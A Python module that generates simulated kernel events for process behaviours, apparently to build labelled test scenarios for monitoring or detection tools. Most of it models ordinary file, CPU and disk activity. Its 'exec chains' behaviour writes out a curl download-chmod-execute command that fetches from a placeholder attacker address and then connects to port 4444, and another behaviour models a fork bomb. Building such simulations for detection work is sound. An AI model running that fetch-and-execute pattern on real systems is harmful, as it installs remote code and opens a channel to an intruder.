"""How processes behave: they open files, run commands, wait for CPUs and disks, fork, and break in."""

from collections.abc import Iterator
from ipaddress import IPv4Address
from itertools import count
from typing import Any

from vm.kernel.scenarios.behaviour import Behaviour, Given, Kind, Value
from vm.kernel.scenarios.draw import Draw
from vm.kernel.scenarios.model import MILLISECOND, SECOND
from vm.kernel.scenarios.people import AT_FDCWD, children, command, executed, forked, left, opened
from vm.kernel.scenarios.shapes import are_commands, are_texts, is_address, rows
from vm.kernel.world.events import Event, FunctionCall, Runs, SockAddr, Syscall

_FILE, _BUFFER = 0xFFFF_8880_0420_0000, 0x7F12_3400_0000
"""What struct file * and the user's buffer look like; nothing is behind them."""
_WRITE_CREATE = 0o101
_FIRST_OF_BOMB = 40_000
"""Pid of the first child of a fork bomb; the others follow."""


def _one(draw: Draw, items: Any) -> Any:
    """One of several; of one only, that, without asking chance."""
    return items[0] if len(items) == 1 else draw.pick(items)


def _opens(given: Given) -> Iterator[Event]:
    """Processes open files; ``who`` are pids with the paths each opens."""
    draw, rows = Draw(given.seed, given.text("stream")), given.table("who")
    for now in draw.times(given.number("begin"), given.number("every")):
        who = _one(draw, rows)
        yield opened(now, who["process"], _one(draw, who["paths"]), given.text("truth"))


def _commands(given: Given) -> Iterator[Event]:
    """A shell, or cron, runs commands."""
    draw, pids = Draw(given.seed, given.text("stream")), children(given.number("family"))
    rows = tuple(tuple(row) for row in given.table("commands"))
    for now in draw.times(0, given.number("every")):
        yield from command(now, given.number("process"), next(pids), draw.pick(rows), given.text("truth"))


def _chains(given: Given) -> Iterator[Event]:
    draw, pids = Draw(given.seed, "attacks"), children(2)
    for number, now in enumerate(draw.times(SECOND // 2, given.number("every")), 1):
        yield from _chain(given, now, next(pids), next(pids), number)


def _chain(given: Given, now: int, shell: int, tool: int, number: int) -> Iterator[Event]:
    """A server becomes a shell, which fetches a file, runs it, and calls home."""
    truth, step_truth = given.text("truth"), given.text("steps")
    path, step = f"{given.text('folder')}/.cache-{number}", 3 * MILLISECOND
    url = f"http://{given.text('home')}/x"
    fetch = f"curl -so {path} {url}; chmod +x {path}; {path}"
    home = SockAddr(IPv4Address(given.text("home")), given.number("port"))
    yield forked(now, given.number("process"), shell, step_truth)
    yield executed(now + step, shell, ("sh", "-c", fetch), "/bin/sh", truth)
    yield forked(now + 2 * step, shell, tool, step_truth)
    yield executed(now + 3 * step, tool, ("curl", "-so", path, url), "/usr/bin/curl", truth)
    yield opened(now + 4 * step, tool, path, step_truth, _WRITE_CREATE)
    yield left(now + 5 * step, tool, step_truth)
    yield Syscall(now + 6 * step, shell, "fchmodat", (AT_FDCWD, path, 0o755), 0, truth=step_truth)
    yield executed(now + 7 * step, shell, (path,), path, truth)
    yield Syscall(now + 8 * step, shell, "connect", (3, home, 16), 0, truth=step_truth)
    yield left(now + 9 * step, shell, step_truth)


def _bomb(given: Given) -> Iterator[Event]:
    """Each generation doubles: every process of it forks twice, ever faster."""
    draw, now, pids = Draw(given.seed, "bomb"), given.number("begin"), count(_FIRST_OF_BOMB)
    generation, gap, width = [given.number("process")], given.number("every"), given.number("width")
    while True:
        born: list[int] = []
        for parent in generation:
            for _ in range(2):
                child = next(pids)
                now += draw.around(max(1_000, gap // len(generation)))
                yield forked(now, parent, child, given.text("truth"))
                born.append(child)
        generation = born[:width]


def _runs(given: Given) -> Iterator[Event]:
    """A process wants a CPU, now and then."""
    draw, needs = Draw(given.seed, given.text("stream")), given.number("takes")
    for now in draw.times(given.number("begin"), given.number("every")):
        yield Runs(now, given.number("process"), draw.around(needs), given.number("cpu"), given.text("truth"))


def _reads(given: Given, worker: int) -> Iterator[Event]:
    """One process that reads page after page, and does something else between."""
    draw, now, at, size = Draw(given.seed, f"worker {worker}"), 0, 0, given.number("size")
    while True:
        now += draw.around(given.number("processes") * given.number("every"))
        slow = draw.chance(given.number("percent"))
        duration = draw.around(given.number("slow" if slow else "fast"))
        at += size
        args = (_FILE, _BUFFER, size, at)
        truth = given.text("truth" if slow else "usual")
        pid = given.number("process") + worker
        yield FunctionCall(now, pid, "vfs_read", args, size, duration, truth=truth)
        now += duration


def _writes(given: Given) -> Iterator[Event]:
    draw, pid = Draw(given.seed, "writes"), given.number("process")
    for now in draw.times(0, 20 * given.number("every")):
        size, duration = draw.between(40, 200), draw.around(given.number("takes"))
        args = (_FILE, _BUFFER, size, 0)
        yield FunctionCall(now, pid, "vfs_write", args, size, duration, truth=given.text("truth"))


_EVERY = Value("every", Kind.TIME, "The time between two, on average.")
_BEGIN = Value("begin", Kind.TIME, "When it begins.", 0)
_PROCESS = Value("process", Kind.PROCESS, "The process.")
_STREAM = Value("stream", Kind.TEXT, "What keeps its chance apart from others'.", "chance")

PROCESS_BEHAVIOURS = (
    Behaviour(
        "opens", "Processes open files.", lambda given: [_opens(given)],
        (
            _EVERY, _BEGIN, _STREAM,
            Value(
                "who", Kind.TABLE, "Rows of a process and the paths it opens.",
                fits=rows(process=int, paths=are_texts),
            ),
        ),
    ),
    Behaviour(
        "commands", "A process runs commands, each in a child.", lambda given: [_commands(given)],
        (
            _EVERY, _PROCESS, _STREAM,
            Value("commands", Kind.TABLE, "Commands with their arguments.", fits=are_commands),
            Value("family", Kind.NUMBER, "Which pids its children get.", 3, 0, 15),
        ),
    ),
    Behaviour(
        "exec chains", "A server becomes a shell, which fetches a program, runs it and calls home.",
        lambda given: [_chains(given)],
        (
            _EVERY, _PROCESS,
            Value("home", Kind.TEXT, "Where the intruder waits.", "203.0.113.66", fits=is_address),
            Value("port", Kind.NUMBER, "At which port.", 4444, 1, 65_535),
            Value("folder", Kind.TEXT, "Where the program is put.", "/tmp"),  # noqa: S108 - in the model
            Value("steps", Kind.TEXT, "The ground truth of the steps between.", "step"),
        ),
    ),
    Behaviour(
        "fork bomb", "A process whose children do nothing but have children.", lambda given: [_bomb(given)],
        (
            _EVERY, _BEGIN, _PROCESS,
            Value("width", Kind.NUMBER, "Processes that still fork at once.", 256, 1, 4_096),
        ),
    ),
    Behaviour(
        "runs", "A process wants a CPU, now and then.", lambda given: [_runs(given)],
        (
            _EVERY, _BEGIN, _PROCESS, _STREAM,
            Value("takes", Kind.TIME, "How long it runs, on average."),
            Value("cpu", Kind.NUMBER, "Which CPU.", 0, 0, 63),
        ),
    ),
    Behaviour(
        "reads", "Processes read pages: most come from memory, some from a slow disk.",
        lambda given: [_reads(given, worker) for worker in range(given.number("processes"))],
        (
            _EVERY,
            Value("process", Kind.PROCESS, "The first of them; the others' pids follow."),
            Value("processes", Kind.NUMBER, "How many.", 1, 1, 64),
            Value("size", Kind.NUMBER, "Bytes of a page.", 8_192, 1, 1 << 20),
            Value("fast", Kind.TIME, "How long a read from memory takes."),
            Value("slow", Kind.TIME, "How long a read from the disk takes."),
            Value("percent", Kind.NUMBER, "How many of a hundred come from the disk.", 4, 0, 100),
            Value("usual", Kind.TEXT, "The ground truth of reads from memory.", "fast"),
        ),
    ),
    Behaviour(
        "writes", "A process writes lines.", lambda given: [_writes(given)],
        (_EVERY, _PROCESS, Value("takes", Kind.TIME, "How long a write takes.")),
    ),
)  # fmt: skip
"""Behaviours of processes."""
